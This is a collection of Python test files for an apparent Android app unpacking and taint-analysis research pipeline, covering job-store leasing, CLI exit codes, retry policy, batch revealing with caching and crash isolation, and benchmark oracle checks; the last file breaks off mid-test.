        result = store.heartbeat("j1", claimed["lease_seq"])
        assert result == HEARTBEAT_CANCELLED
        # The owner acknowledges by completing ``cancelled``.
        assert store.complete_leased("j1", claimed["lease_seq"],
                                     state=JobState.CANCELLED)
        record = store.load("j1")
        assert record["state"] == JobState.CANCELLED
        assert record["cancel_requested"] is False

    def test_cancelled_heartbeat_still_fences_the_lease(self, tmp_path):
        # Acknowledging a cancel takes time; the lease must keep
        # extending meanwhile so nobody reclaims the job mid-ack.
        store = _store(tmp_path)
        _queue(store, "j1")
        claimed = store.claim_next("w1", lease_ttl_s=10.0, now=100.0)
        store.request_cancel("j1")
        store.heartbeat("j1", claimed["lease_seq"],
                        lease_ttl_s=10.0, now=109.0)
        assert store.load("j1")["lease"]["expires_at"] == 119.0

    def test_heartbeat_lost_after_reclaim(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        first = store.claim_next("w1", lease_ttl_s=0.1, now=100.0)
        # w1's lease expired; w2 reclaims at the next generation.
        second = store.claim_next("w2", lease_ttl_s=30.0, now=200.0)
        assert second["lease_seq"] == first["lease_seq"] + 1
        assert store.heartbeat("j1", first["lease_seq"]) == HEARTBEAT_LOST

    def test_heartbeat_unknown_or_terminal_is_lost(self, tmp_path):
        store = _store(tmp_path)
        assert store.heartbeat("ghost", 1) == HEARTBEAT_LOST
        _queue(store, "j1")
        claimed = store.claim_next("w1")
        store.complete_leased("j1", claimed["lease_seq"],
                              state=JobState.DONE)
        assert store.heartbeat("j1", claimed["lease_seq"]) == HEARTBEAT_LOST


class TestExactlyOnce:
    def test_expired_lease_reclaim_race_two_workers(self, tmp_path):
        # The crash-handoff race: a dead worker's lease expired, and
        # two live workers dive for the record at the same instant.
        store = _store(tmp_path)
        _queue(store, "contested")
        store.claim_next("dead", lease_ttl_s=0.05, now=100.0)
        expired = store.claimable_records(now=200.0)
        assert [r["job_id"] for r in expired] == ["contested"]
        wins, barrier = [], threading.Barrier(2)

        def reclaim(worker_id):
            barrier.wait()
            claimed = store.try_claim(expired[0], worker_id, now=200.0)
            if claimed is not None:
                wins.append((worker_id, claimed["lease_seq"]))

        threads = [threading.Thread(target=reclaim, args=(f"w{i}",))
                   for i in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(wins) == 1
        _winner, generation = wins[0]
        assert generation == 2
        assert store.load("contested")["attempts"] == 2

    def test_restart_mid_lease_completes_exactly_once(self, tmp_path):
        # A worker dies mid-job; its restarted replacement (a fresh
        # process — modelled by a fresh JobStore over the same
        # directory) reclaims and completes.  The first owner's late
        # completion is fenced off: exactly one terminal write lands.
        path = str(tmp_path / "store")
        first_store = JobStore(path)
        record = first_store.make_record(
            job_id="j1", app_id="app.j1",
            apk=build_simple_apk("lease.restart"))
        first_store.save(record)
        first = first_store.claim_next("w1", lease_ttl_s=0.05, now=100.0)

        restarted = JobStore(path)
        second = restarted.claim_next("w1-restarted", now=200.0)
        assert second is not None and second["lease_seq"] == 2
        assert restarted.complete_leased(
            "j1", second["lease_seq"], state=JobState.DONE,
            outcome={"status": "ok"}, now=201.0)
        # The original owner finally finishes — and is rejected.
        assert not first_store.complete_leased(
            "j1", first["lease_seq"], state=JobState.DONE,
            outcome={"status": "ok"}, now=202.0)
        final = restarted.load("j1")
        assert final["state"] == JobState.DONE
        assert final["finished_at"] == 201.0
        assert final["worker_id"] == "w1-restarted"

    def test_double_completion_by_same_owner_lands_once(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        claimed = store.claim_next("w1")
        assert store.complete_leased("j1", claimed["lease_seq"],
                                     state=JobState.DONE)
        assert not store.complete_leased("j1", claimed["lease_seq"],
                                         state=JobState.FAILED)
        assert store.load("j1")["state"] == JobState.DONE

    def test_non_terminal_completion_rejected(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        claimed = store.claim_next("w1")
        try:
            store.complete_leased("j1", claimed["lease_seq"],
                                  state=JobState.RUNNING)
        except ValueError:
            pass
        else:
            raise AssertionError("non-terminal state must be rejected")


class TestHalfClaimRecovery:
    """A claimant that dies between its token and its lease write must
    not park the record forever."""

    def test_same_worker_finishes_its_own_half_claim(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        plan = FaultPlan([FaultRule("jobstore.record.write",
                                    FAULT_OS_ERROR, times=1)])
        with faults.armed(plan):
            with pytest.raises(OSError):
                store.claim_next("w1")
            # The retry (the worker loop's backoff path) walks straight
            # back into its own token and lands the lease write.
            claimed = store.claim_next("w1")
        assert claimed is not None
        assert claimed["job_id"] == "j1"
        assert claimed["lease_seq"] == 1
        assert claimed["attempts"] == 1

    def test_stale_foreign_half_claim_is_stepped_past(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        # A foreign claimant took generation 1's token and died before
        # its lease write; backdate the token past one TTL.
        assert store._take_token("j1.1", payload="dead-worker")
        token = os.path.join(store.claims_dir, "j1.1")
        os.utime(token, (time.time() - 60.0, time.time() - 60.0))
        claimed = store.claim_next("w2", lease_ttl_s=5.0)
        assert claimed is not None
        assert claimed["lease_seq"] == 2
        assert claimed["lease"]["worker_id"] == "w2"

    def test_fresh_foreign_token_is_not_stolen(self, tmp_path):
        # A *live* racer's token (its lease write is in flight) must
        # still win: the loser backs off instead of escalating.
        store = _store(tmp_path)
        _queue(store, "j1")
        assert store._take_token("j1.1", payload="other-worker")
        assert store.claim_next("w2", lease_ttl_s=5.0) is None


class TestCancelAndVisibility:
    def test_cancel_queued_is_terminal_and_excludes_workers(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        assert store.request_cancel("j1", now=50.0) == "cancelled"
        record = store.load("j1")
        assert record["state"] == JobState.CANCELLED
        assert record["finished_at"] == 50.0
        # The cancellation consumed the next claim generation.
        assert store.claim_next("w") is None

    def test_cancel_unknown_or_terminal_is_none(self, tmp_path):
        store = _store(tmp_path)
        assert store.request_cancel("ghost") is None
        _queue(store, "j1")
        claimed = store.claim_next("w1")
        store.complete_leased("j1", claimed["lease_seq"],
                              state=JobState.DONE)
        assert store.request_cancel("j1") is None

    def test_pending_records_excludes_live_worker_leases(self, tmp_path):
        # A restarted in-process server must not steal a job a fleet
        # worker is actively revealing.
        store = _store(tmp_path)
        _queue(store, "leased")
        _queue(store, "queued")
        store.claim_next("w1", lease_ttl_s=3600.0)
        assert [r["job_id"] for r in store.pending_records()] == ["queued"]

    def test_worker_leases_dashboard(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        store.claim_next("w1", lease_ttl_s=30.0, now=100.0)
        leases = store.worker_leases(now=110.0)
        assert len(leases) == 1
        assert leases[0]["worker_id"] == "w1"
        assert leases[0]["live"] is True
        assert leases[0]["expires_in_s"] == 20.0
        assert store.worker_leases(now=1000.0)[0]["live"] is False
