"""Every subcommand honours one exit-code contract: 0 ok, 1 failed
work, 2 usage/corrupt input with exactly one stderr line."""

import pytest

from repro.service import JobStore
from repro.service.cli import main
from repro.service.cli_contract import (
    EXIT_FAILURES,
    EXIT_OK,
    EXIT_USAGE,
    exit_for_failures,
    failure,
    usage_error,
)

from tests.conftest import build_simple_apk


def _file(tmp_path):
    """A plain file where a directory is expected."""
    path = tmp_path / "not-a-dir"
    path.write_text("imposter")
    return str(path)


def _missing(tmp_path):
    return str(tmp_path / "absent")


# Every guard path a calling script can hit: (id, argv builder).  Each
# must exit 2 with a single diagnostic line on stderr — no tracebacks.
USAGE_CASES = [
    ("status-missing-store",
     lambda tmp: ["status", "--store", _missing(tmp)]),
    ("watch-missing-store",
     lambda tmp: ["watch", "--store", _missing(tmp)]),
    ("serve-store-is-a-file",
     lambda tmp: ["serve", "--store", _file(tmp)]),
    ("worker-store-is-a-file",
     lambda tmp: ["worker", "--store", _file(tmp)]),
    ("gateway-malformed-tenant",
     lambda tmp: ["gateway", "--store", _missing(tmp), "--port", "0",
                  "--tenant", "token-without-name"]),
    ("submit-neither-target",
     lambda tmp: ["submit", "--limit", "1"]),
    ("submit-both-targets",
     lambda tmp: ["submit", "--limit", "1",
                  "--store", _missing(tmp),
                  "--url", "http://127.0.0.1:1/"]),
    ("submit-unreachable-gateway",
     lambda tmp: ["submit", "--limit", "1",
                  "--url", "http://127.0.0.1:9/"]),
    ("reassemble-missing-archive",
     lambda tmp: ["reassemble", _missing(tmp)]),
    ("index-no-subcommand",
     lambda tmp: ["index"]),
    ("index-stats-missing-dir",
     lambda tmp: ["index", "stats", "--index-dir", _missing(tmp)]),
]


class TestUsageContract:
    @pytest.mark.parametrize(
        "argv_for", [case[1] for case in USAGE_CASES],
        ids=[case[0] for case in USAGE_CASES])
    def test_guard_exits_2_with_one_stderr_line(self, argv_for, tmp_path,
                                                capsys):
        code = main(argv_for(tmp_path))
        captured = capsys.readouterr()
        assert code == EXIT_USAGE
        assert captured.err.strip(), "usage errors must diagnose on stderr"
        assert captured.err.count("\n") == 1, (
            f"expected one stderr line, got: {captured.err!r}")
        assert "Traceback" not in captured.err


class TestFailureContract:
    def test_watch_timeout_with_pending_jobs_exits_1(self, tmp_path, capsys):
        store = JobStore(str(tmp_path / "store"))
        store.save(store.make_record(
            job_id="stuck", app_id="app.stuck",
            apk=build_simple_apk("cli.stuck")))
        code = main(["watch", "--store", str(tmp_path / "store"),
                     "--follow", "--timeout", "0.3"])
        captured = capsys.readouterr()
        assert code == EXIT_FAILURES
        assert captured.err.count("\n") == 1
        assert "pending" in captured.err


class TestOkContract:
    def test_status_on_valid_store_exits_0(self, tmp_path, capsys):
        store = JobStore(str(tmp_path / "store"))
        store.save(store.make_record(
            job_id="fine", app_id="app.fine",
            apk=build_simple_apk("cli.fine")))
        code = main(["status", "--store", str(tmp_path / "store")])
        captured = capsys.readouterr()
        assert code == EXIT_OK
        assert captured.err == ""
        assert "fine" in captured.out


class TestHelpers:
    def test_usage_error_collapses_to_one_line(self, capsys):
        code = usage_error("bad\n  input:\n\tdetails")
        assert code == EXIT_USAGE
        assert capsys.readouterr().err == "bad input: details\n"

    def test_failure_with_and_without_message(self, capsys):
        assert failure("went\nwrong") == EXIT_FAILURES
        assert capsys.readouterr().err == "went wrong\n"
        assert failure() == EXIT_FAILURES
        assert capsys.readouterr().err == ""

    def test_exit_for_failures(self):
        assert exit_for_failures(0) == EXIT_OK
        assert exit_for_failures(3) == EXIT_FAILURES
