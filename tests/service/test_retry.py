"""RetryPolicy / Backoff semantics and the client idempotency rules."""

import random

import pytest

from repro import faults
from repro.faults import FAULT_CONN_RESET, FaultPlan, FaultRule
from repro.service import GatewayClient, GatewayError
from repro.service.retry import (
    NO_RETRY,
    Backoff,
    RetryPolicy,
    call_with_retries,
)


class TestRetryPolicy:
    def test_delay_caps_and_doubles_without_jitter(self):
        policy = RetryPolicy(base_delay_s=0.1, max_delay_s=0.5,
                             jitter=False)
        assert [policy.delay_for(a) for a in range(4)] == \
               [0.1, 0.2, 0.4, 0.5]

    def test_full_jitter_draws_inside_the_cap(self):
        policy = RetryPolicy(base_delay_s=0.1, max_delay_s=2.0)
        rng = random.Random(1)
        for attempt in range(6):
            cap = min(2.0, 0.1 * 2 ** attempt)
            for _ in range(50):
                assert 0.0 <= policy.delay_for(attempt, rng) <= cap

    def test_call_with_retries_recovers_transient_failures(self):
        calls = []
        sleeps = []

        def flaky():
            calls.append(1)
            if len(calls) < 3:
                raise ConnectionResetError("transient")
            return "ok"

        result = call_with_retries(
            flaky, policy=RetryPolicy(attempts=4, jitter=False,
                                      base_delay_s=0.01),
            retryable=lambda exc: isinstance(exc, OSError),
            sleep=sleeps.append)
        assert result == "ok"
        assert len(calls) == 3
        assert sleeps == [0.01, 0.02]

    def test_non_transient_raises_immediately(self):
        calls = []

        def fatal():
            calls.append(1)
            raise ValueError("caller bug")

        with pytest.raises(ValueError):
            call_with_retries(fatal, policy=RetryPolicy(attempts=5),
                              retryable=lambda e: isinstance(e, OSError),
                              sleep=lambda _s: None)
        assert len(calls) == 1

    def test_attempts_bound_the_total_tries(self):
        calls = []

        def always_down():
            calls.append(1)
            raise OSError("down")

        with pytest.raises(OSError):
            call_with_retries(always_down,
                              policy=RetryPolicy(attempts=3, jitter=False,
                                                 base_delay_s=0.0),
                              retryable=lambda e: True,
                              sleep=lambda _s: None)
        assert len(calls) == 3

    def test_on_retry_counts_every_recovery_attempt(self):
        seen = []

        def flaky():
            if len(seen) < 2:
                raise OSError("x")
            return True

        call_with_retries(flaky,
                          policy=RetryPolicy(attempts=4, jitter=False,
                                             base_delay_s=0.0),
                          retryable=lambda e: True,
                          on_retry=lambda e, a, d: seen.append((a, d)),
                          sleep=lambda _s: None)
        assert [a for a, _d in seen] == [0, 1]

    def test_no_retry_is_one_shot(self):
        assert NO_RETRY.attempts == 1


class TestBackoff:
    def test_escalates_then_resets(self):
        backoff = Backoff(RetryPolicy(base_delay_s=0.1, max_delay_s=1.0,
                                      jitter=False))
        assert backoff.next_delay() == 0.1
        assert backoff.next_delay() == 0.2
        assert backoff.failures == 2
        backoff.reset()
        assert backoff.next_delay() == 0.1
        assert backoff.total_delay_s == pytest.approx(0.4)


class _FakeTransport:
    """Patchable stand-in for GatewayClient._request_once."""

    def __init__(self, failures, exc_factory):
        self.failures = failures
        self.exc_factory = exc_factory
        self.calls = []

    def __call__(self, method, path, *, body=None, headers=None,
                 stream=False):
        self.calls.append((method, path))
        if len(self.calls) <= self.failures:
            raise self.exc_factory()
        return {"ok": True}


class TestClientIdempotency:
    def _client(self, transport, **kwargs):
        kwargs.setdefault("retry", RetryPolicy(attempts=3, jitter=False,
                                               base_delay_s=0.0))
        client = GatewayClient("http://test.invalid", **kwargs)
        client._request_once = transport
        return client

    def test_get_retries_transient_oserror(self):
        transport = _FakeTransport(2, lambda: ConnectionResetError("rst"))
        client = self._client(transport)
        assert client._request("GET", "/v1/stats") == {"ok": True}
        assert len(transport.calls) == 3
        assert client.retries == 2

    def test_get_retries_5xx_but_not_4xx(self):
        transport = _FakeTransport(1, lambda: GatewayError(503, "busy"))
        client = self._client(transport)
        assert client._request("GET", "/v1/stats") == {"ok": True}
        assert client.retries == 1

        transport = _FakeTransport(5, lambda: GatewayError(404, "gone"))
        client = self._client(transport)
        with pytest.raises(GatewayError):
            client._request("GET", "/v1/jobs/nope")
        assert len(transport.calls) == 1

    def test_post_without_idempotency_key_is_never_retried(self):
        transport = _FakeTransport(1, lambda: OSError("reset"))
        client = self._client(transport)
        with pytest.raises(OSError):
            client._request("POST", "/v1/jobs", body=b"{}")
        assert len(transport.calls) == 1
        assert client.retries == 0

    def test_post_with_idempotency_key_is_retried(self):
        transport = _FakeTransport(2, lambda: OSError("reset"))
        client = self._client(transport)
        data = client._request("POST", "/v1/jobs", body=b"{}",
                               headers={"Idempotency-Key": "k1"})
        assert data == {"ok": True}
        assert len(transport.calls) == 3

    def test_injected_client_faults_are_transparent_to_retry(self):
        # A conn-reset armed at the client.request site is retried away
        # like the real thing.
        plan = FaultPlan([FaultRule("client.request", FAULT_CONN_RESET)])
        calls = []

        def transport(method, path, *, body=None, headers=None,
                      stream=False):
            calls.append(path)
            return {"ok": True}

        client = self._client(transport)
        real_once = GatewayClient._request_once

        def faulted(method, path, **kwargs):
            faults.check("client.request")
            return transport(method, path, **kwargs)

        client._request_once = faulted
        with faults.armed(plan):
            assert client._request("GET", "/x") == {"ok": True}
        assert client.retries == 1
        assert real_once is GatewayClient._request_once  # untouched

    def test_submit_mints_an_idempotency_key_by_default(self):
        captured = {}

        def transport(method, path, *, body=None, headers=None,
                      stream=False):
            captured["headers"] = dict(headers or {})
            return {"job_id": "job-1", "deduplicated": False}

        from tests.conftest import build_simple_apk
        from repro.service.batch import RevealJob

        client = GatewayClient("http://test.invalid")
        client._request_once = transport
        client.submit(RevealJob(app_id="a",
                                apk=build_simple_apk("retry.auto")))
        assert captured["headers"].get("Idempotency-Key", "") \
            .startswith("auto-")

        client = GatewayClient("http://test.invalid",
                               auto_idempotency=False)
        client._request_once = transport
        client.submit(RevealJob(app_id="a",
                                apk=build_simple_apk("retry.noauto")))
        assert "Idempotency-Key" not in captured["headers"]
