"""BatchRevealService: parallelism, caching, and crash isolation."""

import multiprocessing

import pytest

from repro.dex import assemble
from repro.errors import VerificationError
from repro.runtime import AndroidRuntime, Apk, AppDriver
from repro.service import (
    STATUS_BUDGET_EXCEEDED,
    STATUS_CRASHED,
    STATUS_ERROR,
    STATUS_OK,
    STATUS_VERIFY_FAILED,
    BatchRevealService,
    RevealJob,
)

from tests.conftest import build_simple_apk


def _crashing_apk(package="svc.crash") -> Apk:
    """An app whose onCreate divides by zero (uncaught VM throw)."""
    text = """
.class public Lsvc/Crash;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const/4 v0, 0
    div-int v1, v0, v0
    return-void
.end method
"""
    return Apk(package, "Lsvc/Crash;", [assemble(text)])


def _corpus(n=4, prefix="svc.batch"):
    return [RevealJob(f"app{i}", build_simple_apk(f"{prefix}.a{i}"))
            for i in range(n)]


class TestBatchBasics:
    def test_batch_reveals_all_in_order(self):
        service = BatchRevealService(workers=4)
        report = service.reveal_batch(_corpus(6))
        assert [o.app_id for o in report.outcomes] == \
            [f"app{i}" for i in range(6)]
        assert all(o.status == STATUS_OK for o in report.outcomes)
        assert report.ok_count == 6 and report.failed_count == 0
        assert report.wall_time_s > 0
        assert all(o.latency_s > 0 for o in report.outcomes)
        assert all(o.dump_size_bytes > 0 for o in report.outcomes)

    def test_revealed_apk_still_executes(self):
        outcome = BatchRevealService().reveal_one(
            build_simple_apk("svc.exec"))
        driver = AppDriver(AndroidRuntime(), outcome.revealed_apk)
        report = driver.launch()
        assert report.launched
        assert driver.activity.fields[("Lcom/fix/Simple;", "total")] == 285

    def test_accepts_bare_apks(self):
        report = BatchRevealService(workers=2).reveal_batch(
            [build_simple_apk("svc.bare.a"), build_simple_apk("svc.bare.b")]
        )
        assert [o.app_id for o in report.outcomes] == \
            ["svc.bare.a", "svc.bare.b"]

    def test_worker_count_does_not_change_results(self):
        """Ordering independence: pool size is invisible in the output."""
        jobs = _corpus(5, "svc.order")
        serial = BatchRevealService(workers=1, backend="serial")
        pooled = BatchRevealService(workers=4, backend="thread")
        a, b = serial.reveal_batch(jobs), pooled.reveal_batch(jobs)
        assert [o.app_id for o in a.outcomes] == [o.app_id for o in b.outcomes]
        assert [o.status for o in a.outcomes] == [o.status for o in b.outcomes]
        assert [o.dump_size_bytes for o in a.outcomes] == \
            [o.dump_size_bytes for o in b.outcomes]

    def test_rejects_unknown_backend(self):
        with pytest.raises(ValueError):
            BatchRevealService(backend="fibers")

    def test_rejects_config_plus_kwargs(self):
        from repro.core import RevealConfig

        with pytest.raises(ValueError, match="run_budget"):
            BatchRevealService(config=RevealConfig(), run_budget=500)

    def test_parallel_jobs_get_private_archive_dirs(self, tmp_path):
        import os

        from repro.core import RevealConfig

        root = str(tmp_path / "archives")
        service = BatchRevealService(
            config=RevealConfig(archive_dir=root), workers=4)
        report = service.reveal_batch(_corpus(4, "svc.archdir"))
        assert all(o.status == STATUS_OK for o in report.outcomes)
        # One subdirectory per job: concurrent save/load never collides.
        for i in range(4):
            assert os.path.exists(
                os.path.join(root, f"app{i}", "class_data.json"))


class TestCacheIntegration:
    def test_second_run_hits_memory_cache(self):
        service = BatchRevealService(workers=2)
        jobs = _corpus(3, "svc.memhit")
        cold = service.reveal_batch(jobs)
        warm = service.reveal_batch(jobs)
        assert cold.cache_hits == 0
        assert warm.cache_hits == 3 and warm.cache_hit_rate == 1.0
        assert [o.status for o in warm.outcomes] == \
            [o.status for o in cold.outcomes]

    def test_disk_cache_survives_service_restart(self, tmp_path):
        jobs = _corpus(3, "svc.diskhit")
        cache_dir = str(tmp_path)
        cold = BatchRevealService(workers=2, cache_dir=cache_dir) \
            .reveal_batch(jobs)
        warm = BatchRevealService(workers=2, cache_dir=cache_dir) \
            .reveal_batch(jobs)
        assert cold.cache_hits == 0
        assert warm.cache_hit_rate == 1.0
        # Cached records still carry a usable revealed APK.
        assert warm.outcomes[0].revealed_apk.dex_files

    def test_modified_apk_misses(self):
        service = BatchRevealService()
        service.reveal_one(build_simple_apk("svc.miss"))
        changed = build_simple_apk("svc.miss")
        changed.assets["extra.bin"] = b"\x01"
        outcome = service.reveal_one(RevealJob("svc.miss", changed))
        assert not outcome.cache_hit

    def test_config_change_misses(self):
        apk = build_simple_apk("svc.cfgmiss")
        cache_jobs = [RevealJob("j", apk)]
        shared = BatchRevealService(workers=1)
        shared.reveal_batch(cache_jobs)
        different = BatchRevealService(workers=1, run_budget=500_000,
                                       cache=shared.cache)
        outcome = different.reveal_batch(cache_jobs).outcomes[0]
        assert not outcome.cache_hit

    def test_jobs_with_drive_not_cached_without_salt(self):
        service = BatchRevealService()
        drive = lambda driver: driver.run_standard_session()
        job = RevealJob("drv", build_simple_apk("svc.drv"), drive=drive)
        assert not job.cacheable
        service.reveal_one(job)
        assert not service.reveal_one(job).cache_hit
        salted = RevealJob("drv", build_simple_apk("svc.drv"), drive=drive,
                           cache_salt="standard")
        service.reveal_one(salted)
        assert service.reveal_one(salted).cache_hit

    def test_cache_hit_reports_callers_app_id(self):
        # Two names for identical bytes: second is a hit under its own id.
        service = BatchRevealService()
        apk = build_simple_apk("svc.alias")
        service.reveal_one(RevealJob("first-name", apk))
        outcome = service.reveal_one(RevealJob("second-name", apk))
        assert outcome.cache_hit and outcome.app_id == "second-name"


class TestCrashIsolation:
    def test_vm_crash_is_an_outcome_not_an_abort(self):
        jobs = [
            RevealJob("good0", build_simple_apk("svc.iso.g0")),
            RevealJob("boom", _crashing_apk("svc.iso.boom")),
            RevealJob("good1", build_simple_apk("svc.iso.g1")),
        ]
        report = BatchRevealService(workers=2).reveal_batch(jobs)
        statuses = {o.app_id: o.status for o in report.outcomes}
        assert statuses == {"good0": STATUS_OK, "boom": STATUS_CRASHED,
                            "good1": STATUS_OK}
        crashed = next(o for o in report.outcomes if o.app_id == "boom")
        # The pipeline still reveals what ran before the crash.
        assert crashed.revealed_apk is not None
        assert crashed.error

    def test_raising_drive_is_isolated(self):
        def bad_drive(driver):
            raise RuntimeError("fuzzer exploded")

        jobs = [
            RevealJob("ok0", build_simple_apk("svc.iso2.a")),
            RevealJob("bad", build_simple_apk("svc.iso2.b"), drive=bad_drive),
            RevealJob("ok1", build_simple_apk("svc.iso2.c")),
        ]
        report = BatchRevealService(workers=3).reveal_batch(jobs)
        by_id = {o.app_id: o for o in report.outcomes}
        assert by_id["bad"].status == STATUS_ERROR
        assert "fuzzer exploded" in by_id["bad"].error
        assert by_id["ok0"].status == STATUS_OK
        assert by_id["ok1"].status == STATUS_OK

    def test_error_outcomes_are_not_cached(self):
        def bad_drive(driver):
            raise RuntimeError("transient")

        service = BatchRevealService()
        job = RevealJob("retry", build_simple_apk("svc.retry"),
                        drive=bad_drive, cache_salt="s")
        assert service.reveal_one(job).status == STATUS_ERROR
        # Fixed on the second attempt: must not be shadowed by a cache entry.
        fixed = RevealJob("retry", build_simple_apk("svc.retry"),
                          cache_salt="s")
        assert service.reveal_one(fixed).status == STATUS_OK

    def test_budget_exceeded_status(self):
        service = BatchRevealService(run_budget=40)
        outcome = service.reveal_one(build_simple_apk("svc.budget"))
        assert outcome.status == STATUS_BUDGET_EXCEEDED
        assert outcome.revealed_apk is not None

    def test_verify_failure_status(self, monkeypatch):
        import repro.core.stages as stages_module

        def always_invalid(dex):
            raise VerificationError("forced for test")

        monkeypatch.setattr(stages_module, "assert_valid", always_invalid)
        report = BatchRevealService(workers=2).reveal_batch(
            _corpus(2, "svc.verify"))
        assert all(o.status == STATUS_VERIFY_FAILED for o in report.outcomes)
        assert all("forced for test" in o.error for o in report.outcomes)
        # The redesigned pipeline names the stage that died.
        assert all(o.failed_stage == "verify" for o in report.outcomes)

    def test_collect_stage_failure_names_stage(self):
        def bad_drive(driver):
            raise RuntimeError("fuzzer exploded")

        outcome = BatchRevealService().reveal_one(
            RevealJob("stagefail", build_simple_apk("svc.stagefail"),
                      drive=bad_drive))
        assert outcome.status == STATUS_ERROR
        assert outcome.failed_stage == "collect"
        assert "fuzzer exploded" in outcome.error

    def test_ok_outcome_carries_stage_timings(self):
        outcome = BatchRevealService().reveal_one(
            build_simple_apk("svc.timings"))
        assert outcome.status == STATUS_OK
        assert set(outcome.stage_timings) == \
            {"collect", "reassemble", "verify", "repack"}
        assert all(t >= 0 for t in outcome.stage_timings.values())

    def test_collect_only_outcome_times_the_collect_stage(self):
        outcome = BatchRevealService().reveal_one(
            RevealJob("co", build_simple_apk("svc.cotimings"),
                      collect_only=True))
        assert outcome.status == STATUS_OK
        assert set(outcome.stage_timings) == {"collect"}


class TestProcessBackend:
    @pytest.mark.skipif(
        multiprocessing.get_start_method() != "fork",
        reason="process backend test relies on fork inheritance",
    )
    def test_process_pool_reveals(self):
        report = BatchRevealService(workers=2, backend="process") \
            .reveal_batch(_corpus(3, "svc.proc"))
        assert all(o.status == STATUS_OK for o in report.outcomes)
        assert [o.app_id for o in report.outcomes] == ["app0", "app1", "app2"]
        # Process workers ship the revealed APK back as bytes.
        assert report.outcomes[0].result is None
        assert report.outcomes[0].revealed_apk is not None

    def test_custom_device_jobs_ship_whole_profiles(self):
        # Workers rebuild the full device profile from
        # RevealConfig.to_dict(), so custom profiles ship fine; only a
        # drive callable (unpicklable) keeps a job in the parent.
        import dataclasses

        from repro.runtime import NEXUS_5X

        custom = dataclasses.replace(NEXUS_5X, imei="999999999999999")
        service = BatchRevealService(backend="process", workers=2,
                                     device=custom)
        assert service._process_safe(
            RevealJob("c", build_simple_apk("svc.dev.c")))
        assert not service._process_safe(
            RevealJob("d", build_simple_apk("svc.dev.d"),
                      drive=lambda driver: driver.launch()))
        report = service.reveal_batch(_corpus(2, "svc.dev"))
        assert all(o.status == STATUS_OK for o in report.outcomes)

    @pytest.mark.skipif(
        multiprocessing.get_start_method() != "fork",
        reason="process backend test relies on fork inheritance",
    )
    def test_process_pool_falls_back_for_drive_jobs(self):
        drive = lambda driver: driver.run_standard_session()
        jobs = [
            RevealJob("plain", build_simple_apk("svc.procmix.a")),
            RevealJob("driven", build_simple_apk("svc.procmix.b"),
                      drive=drive),
        ]
        report = BatchRevealService(workers=2, backend="process") \
            .reveal_batch(jobs)
        assert [o.status for o in report.outcomes] == [STATUS_OK, STATUS_OK]


class TestExplorationSurface:
    """Force-execution scheduler stats flow outcome → report."""

    def test_outcome_carries_exploration_summary(self):
        service = BatchRevealService(use_force_execution=True,
                                     exploration_strategy="rarity-first",
                                     explore_workers=2)
        outcome = service.reveal_one(build_simple_apk("svc.explore"))
        assert outcome.status == STATUS_OK
        assert outcome.exploration["strategy"] == "rarity-first"
        assert outcome.exploration["workers"] == 2
        assert "ucbs_discovered" in outcome.exploration
        assert "replays_saved_by_dedup" in outcome.exploration
        assert outcome.to_summary()["exploration"] == outcome.exploration

    def test_report_aggregates_exploration(self):
        service = BatchRevealService(use_force_execution=True)
        report = service.reveal_batch(_corpus(2, prefix="svc.explagg"))
        aggregate = report.exploration_summary()
        assert aggregate["apps_explored"] == 2
        assert aggregate["paths_explored"] >= 0
        assert report.summary()["exploration"] == aggregate
        assert "exploration:" in report.render()

    def test_no_exploration_block_when_module_off(self):
        report = BatchRevealService().reveal_batch(
            _corpus(1, prefix="svc.noexpl"))
        assert report.outcomes[0].exploration == {}
        assert report.exploration_summary() == {}
        assert "exploration:" not in report.render()

    def test_exploration_survives_the_disk_cache(self, tmp_path):
        # A warm-cache hit must carry the original run's exploration
        # stats, not silently drop them.
        apk = build_simple_apk("svc.explcache")
        cold = BatchRevealService(use_force_execution=True,
                                  cache_dir=str(tmp_path)).reveal_one(apk)
        warm = BatchRevealService(use_force_execution=True,
                                  cache_dir=str(tmp_path)).reveal_one(apk)
        assert warm.cache_hit
        assert warm.exploration == cold.exploration != {}

    def test_exploration_knobs_feed_cache_identity(self):
        base = BatchRevealService(use_force_execution=True)
        rare = BatchRevealService(use_force_execution=True,
                                  exploration_strategy="rarity-first")
        apk = build_simple_apk("svc.explkey")
        job = RevealJob("k", apk)
        assert base.job_cache_key(job) != rare.job_cache_key(job)
