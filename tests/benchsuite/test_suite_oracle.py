"""Corpus statistics and ground-truth oracle validation.

The oracle check is the load-bearing test of the whole evaluation: every
sample's declared ground truth must match what the runtime's provenance
oracle observes under the standard drive.
"""

import pytest

from repro.benchsuite import droidbench_samples, suite_statistics
from repro.runtime import AndroidRuntime, AppDriver

_SAMPLES = droidbench_samples()


class TestSuiteShape:
    def test_paper_corpus_statistics(self):
        stats = suite_statistics()
        assert stats["total"] == 134
        assert stats["leaky"] == 111
        assert stats["benign"] == 23
        assert stats["paper_contributed"] == 15

    def test_paper_contributions_by_kind(self):
        by_cat = {}
        for sample in _SAMPLES:
            if sample.added_by_paper:
                by_cat.setdefault(sample.category, []).append(sample.name)
        assert len(by_cat["reflection_adv"]) == 5
        assert len(by_cat["dynload"]) == 3
        assert len(by_cat["selfmod"]) == 4
        assert len(by_cat["unreachable_flow"]) == 3

    def test_names_unique(self):
        names = [s.name for s in _SAMPLES]
        assert len(names) == len(set(names))

    def test_packages_unique(self):
        packages = [s.build_apk().package for s in _SAMPLES]
        assert len(packages) == len(set(packages))

    def test_table_iv_samples_exist(self):
        from repro.benchsuite import TABLE_IV_SAMPLES, sample_by_name

        for name in TABLE_IV_SAMPLES:
            assert sample_by_name(name) is not None


@pytest.mark.parametrize("sample", _SAMPLES, ids=lambda s: s.name)
def test_ground_truth_matches_oracle(sample):
    """Declared expected_leaks == observed (tag, sink) pairs at runtime."""
    apk = sample.build_apk()
    runtime = AndroidRuntime(device=sample.device, max_steps=3_000_000)
    AppDriver(runtime, apk).run_standard_session()
    observed = {
        (event.sink_signature, tag)
        for event in runtime.observed_leaks()
